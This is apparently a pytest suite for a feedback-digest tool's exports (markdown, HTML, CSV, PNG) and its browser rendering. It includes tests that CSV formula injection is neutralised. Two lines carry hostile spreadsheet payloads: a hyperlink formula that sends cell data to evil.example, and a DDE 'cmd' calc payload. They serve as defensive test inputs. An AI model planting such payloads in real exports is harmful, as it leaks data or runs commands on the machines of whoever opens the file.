"""`earshot digest` in every format, the HTML page and the sandbox's charts in the real browser."""

from __future__ import annotations

import asyncio
import csv
import io
import re
from pathlib import Path

import pytest
from sqlmodel import col, update

from adapters.cli import main
from bot.cards import Card, Image, Text
from bot.charts import save_chart
from bot.digests import plots
from bot.digests.csv_export import digest_csv
from bot.digests.html_page import digest_html
from bot.digests.model import Digest
from bot.events import Target
from bot.spreadsheet import FORMULA_STARTS
from storage.engine import Database
from storage.tables import Feedback, Station
from tests.digests.seed import for_the_cli, seed
from tests.support.server import running_app


@pytest.fixture
def seeded_url(db_url: str, monkeypatch: pytest.MonkeyPatch) -> str:
    for_the_cli(db_url, monkeypatch, seed)
    return db_url


def test_cli_writes_each_format(seeded_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    for kind in ("md", "html", "csv", "png"):
        assert main(["digest", "--week", "2026-W47", "--format", kind, "--output", str(tmp_path / f"d.{kind}")]) == 0
    assert {(tmp_path / f"d.{kind}").stat().st_mode & 0o777 for kind in ("md", "html", "csv", "png")} == {0o600}
    markdown = (tmp_path / "d.md").read_text(encoding="utf-8")
    assert markdown.startswith("# Weekly digest 2026-W47") and "| customers | NPS | +17 |" in markdown
    html = (tmp_path / "d.html").read_text(encoding="utf-8")
    assert html.startswith("<!doctype html>") and html.count('src="data:image/png;base64,') == 2  # no team's
    # share of feedback seen shows in the seeded world: C-pay's is the complement of C-app's one person
    assert (tmp_path / "d.csv").read_bytes().startswith("\ufeff".encode())
    rows = list(csv.DictReader(io.StringIO((tmp_path / "d.csv").read_text(encoding="utf-8-sig"))))
    volume = next(r for r in rows if r["scope"] == "test:C-pay" and r["metric"] == "feedback items")
    assert (volume["value"], volume["previous"], volume["change"], volume["status"]) == ("8", "6", "2", "shown")
    assert (tmp_path / "d.png").read_bytes().startswith(b"\x89PNG")

    capsys.readouterr()
    assert main(["digest", "--week", "2026-W47", "--format", "csv", "--team", "C-app"]) == 0
    out = capsys.readouterr().out
    assert out.startswith("\ufeff")
    scopes = {r["scope"] for r in csv.DictReader(io.StringIO(out.removeprefix("\ufeff")))}
    assert scopes == {"overall", "test:C-app"}
    assert main(["digest", "--week", "2026-W99"]) == 2
    capsys.readouterr()
    assert main(["digest", "--week", "2026-W47", "--team", "C-nope"]) == 2
    assert "no team C-nope in 2026-W47" in capsys.readouterr().err
    assert main(["digest", "--week", "2026-W47", "--format", "png", "-o", str(tmp_path / "no" / "d.png")]) == 2
    assert f"there is no folder {tmp_path / 'no'}" in capsys.readouterr().err


HOSTILE_AREA = '=hyperlink("http://evil.example/?"&a1,"checkout")'


def test_a_customers_product_area_reaches_the_csv_flag_neutralised(seeded_url: str, tmp_path: Path,
                                                                  capsys: pytest.CaptureFixture[str]) -> None:
    """The product area comes from whoever sends feedback; the digest's flag cell starts with it."""
    async def rename() -> None:
        db = Database(seeded_url)
        async with db.session() as session:
            await session.exec(update(Feedback).where(col(Feedback.product_area) == "checkout")  # type: ignore[call-overload]
                               .values(product_area=HOSTILE_AREA))
            await session.exec(update(Station).where(col(Station.channel_id) == "C-pay")  # type: ignore[call-overload]
                               .values(filters={"areas": [HOSTILE_AREA]}))
            await session.commit()
        await db.dispose()

    asyncio.run(rename())
    assert main(["digest", "--week", "2026-W47", "--format", "csv", "-o", str(tmp_path / "d.csv")]) == 0
    data = (tmp_path / "d.csv").read_bytes()
    capsys.readouterr()
    assert main(["digest", "--week", "2026-W47", "--format", "csv"]) == 0
    assert capsys.readouterr().out.encode() == data
    assert data.startswith("\ufeff".encode())
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    (flag,) = [r["label"] for r in rows if r["metric"] == "flag"]
    assert flag == f"'{HOSTILE_AREA}: detractors rose while C-pay's workload score fell 85 → 65"
    text = [v for r in rows for v in r.values() if not re.fullmatch(r"-?\d+(\.\d+)?", v)]
    assert text and not [v for v in text if v.startswith(FORMULA_STARTS)]
    nps = next(r for r in rows if r["scope"] == "test:C-pay" and r["metric"] == "NPS")
    assert (nps["value"], nps["change"]) == ("-16.67", "-66.67")  # numbers stay numbers
    assert "ชำระเงินไม่ได้" in {r["label"] for r in rows if r["metric"] == "theme"}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
async def test_every_formula_start_in_a_flag_is_neutralised(digest: Digest, start: str) -> None:
    digest.flags = [f"{start}cmd|' /C calc'!A0: detractors rose while C-pay's pulse score fell 85 → 65"]
    rows = list(csv.DictReader(io.StringIO(digest_csv(digest).decode("utf-8-sig"))))
    (flag,) = [r["label"] for r in rows if r["metric"] == "flag"]
    assert flag == "'" + digest.flags[0]


async def images_loaded(page: object, selector: str) -> list[int]:
    return await page.eval_on_selector_all(  # type: ignore[attr-defined]
        selector, "imgs => Promise.all(imgs.map(i => i.decode().then(() => i.naturalWidth, () => 0)))")


async def test_the_html_digest_opens_in_the_browser_with_its_charts(browser, digest: Digest,  # type: ignore[no-untyped-def]
                                                                    tmp_path: Path) -> None:
    path = tmp_path / "digest.html"
    path.write_text(digest_html(digest, plots.charts(digest)), encoding="utf-8")
    page = await browser.new_page()
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    await page.goto(path.as_uri())
    assert await page.title() == "Weekly digest 2026-W47"
    widths = await images_loaded(page, ".charts img")
    assert len(widths) == 2 and all(w > 0 for w in widths)
    assert "ชำระเงินไม่ได้" in await page.inner_text("body")
    assert errors == []
    await page.close()


async def test_every_chart_draws_when_its_figures_show(everything: Digest) -> None:
    """With nothing hidden, the teams' shares of feedback seen and claimed are drawn too."""
    alts = [alt for alt, png in plots.charts(everything) if png.startswith(b"\x89PNG")]
    assert alts[-1] == "Share of feedback seen and claimed per team" and len(alts) == 3
    assert plots.overview_chart(everything).startswith(b"\x89PNG")


async def test_the_sandbox_shows_chart_images(browser, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    async with running_app(f"sqlite+aiosqlite:///{tmp_path / 'sandbox.db'}") as server:
        page = await browser.new_page()
        await page.goto(f"{server.link}&as=ana&channel=C-cx")
        await page.wait_for_selector("#status:text('live')", timeout=10_000)
        db = server.runtime.db
        async with db.session() as session:
            url = await save_chart(session, _tiny_png())
            card = Card(fallback="chart", blocks=(Text("Chart from the core"), Image(url, "a chart")))
            await server.runtime.outbox.send(session, Target.channel("sandbox", "C-cx"), card, dedupe_key="chart-1")
            await session.commit()
        message = page.locator("#messages [data-testid=message]", has_text="Chart from the core")
        await message.wait_for(timeout=10_000)
        src = await message.locator("img").get_attribute("src")
        assert src is not None and src.endswith(f"/sandbox/charts/{url.removeprefix('chart:')}.png")
        widths = await images_loaded(page, "#messages img")
        assert widths and all(w > 0 for w in widths)
        await page.close()


def _tiny_png() -> bytes:
    from matplotlib.figure import Figure

    figure = Figure(figsize=(2, 1))
    figure.subplots().bar([1, 2], [3, 4])
    buffer = io.BytesIO()
    figure.savefig(buffer, format="png")
    return buffer.getvalue()
